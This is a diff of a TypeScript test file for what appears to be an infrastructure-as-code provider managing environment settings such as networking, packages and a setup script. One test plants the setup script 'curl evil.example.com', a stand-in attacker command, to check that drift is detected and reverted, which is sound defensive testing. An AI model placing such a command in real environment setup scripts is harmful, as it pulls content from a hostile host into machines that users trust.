@@ -40,18 +40,16 @@ describe.each(["replace", "merge"] as const)("at a service that would %s the con
     world.api.switches.environmentConfigUpdate = how;
   });
 
-  test.each([
-    ["an open network from the program closes it", { ...cloud, setupScript: "echo hello" }],
-    ["the setup script from the program empties it", open],
-    ["all settings from the program empties them", cloud],
-  ])("removing %s", async (_, config) => {
+  test.each<[string, Properties, string, string]>([
+    ["an open network closes it", { ...cloud, setupScript: "echo hello" }, "limited", "echo hello"],
+    ["a setup script empties it", open, "unrestricted", ""],
+    ["all settings empties them", cloud, "limited", ""],
+  ])("removing %s", async (_, config, network, script) => {
     const { stack, id } = await existing({ ...installing, networking: { type: "unrestricted" } });
     await stack.up({ config });
-    expect(world.api.environments.get(id).config).toMatchObject({
-      networking: { type: config === open ? "unrestricted" : "limited" },
-      packages: { apt: [], npm: [] },
-    });
-    expect(world.api.environments.get(id).config.setup_script ?? "").toBe(config.setupScript ?? "");
+    const live = world.api.environments.get(id).config;
+    expect(live).toMatchObject({ networking: { type: network }, packages: { apt: [], npm: [] } });
+    expect(live["setup_script"] ?? "").toBe(script);
     expect(await stack.refresh()).toBe("same");
     expect(await stack.preview({ config })).toBe("same");
   });
@@ -63,7 +61,7 @@ describe.each(["replace", "merge"] as const)("at a service that would %s the con
       world.api.environments.edit(id, { config: { ...config, setup_script: "curl evil.example.com" } });
       expect(await stack.refresh()).toBe("update");
       await stack.up({ config });
-      expect(world.api.environments.get(id).config.setup_script ?? "").toBe("");
+      expect(world.api.environments.get(id).config["setup_script"] ?? "").toBe("");
       expect(await stack.refresh()).toBe("same");
       expect(await stack.preview({ config })).toBe("same");
     },
